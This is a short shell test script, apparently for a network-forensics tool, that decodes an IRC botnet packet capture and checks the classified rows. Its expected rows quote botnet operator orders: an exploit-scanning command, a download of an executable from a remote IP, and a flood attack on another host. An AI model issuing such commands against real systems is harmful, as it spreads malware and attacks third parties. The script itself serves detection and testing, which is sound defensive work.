#!/usr/bin/env bash
# Synthetic: a bot of IRC and its orders, as they are described.
. "$(dirname "$0")/../record/synthetic.sh"

python3 "$RECORD/rats.py" ircbot "$SAMPLE/capture.pcap"
fresh
expect_row '{"@same":"conversation","kind":"message"}'
expect_row '{"kind":"message","family":"irc-bot","verified":false,"side":"unknown","type":"sysinfo","text":"the client calls itself [USA|XP|482211]"}'
expect_row '{"kind":"message","side":"operator","type":"network","subtype":"attack","text":".advscan asn1smb 100 5 0 -r -s"}'
expect_row '{"kind":"message","side":"unknown","type":"unknown","subtype":"text","text":"!seen alice"}'
expect_row '{"kind":"message","side":"operator","type":"file_transfer","subtype":"put","text":".download http://203.0.113.9/a.exe c:\\a.exe 1"}'
expect_row '{"kind":"message","side":"implant","type":"unknown","subtype":"text","text":"[DOWNLOAD]: Downloaded 12.0 KB to c:\\a.exe"}'
expect_row '{"kind":"message","side":"operator","type":"network","subtype":"attack","text":"!* UNKNOWN 203.0.113.80 60"}'
expect_row '{"kind":"message","side":"operator","type":"unknown","subtype":"text","text":"well done"}'
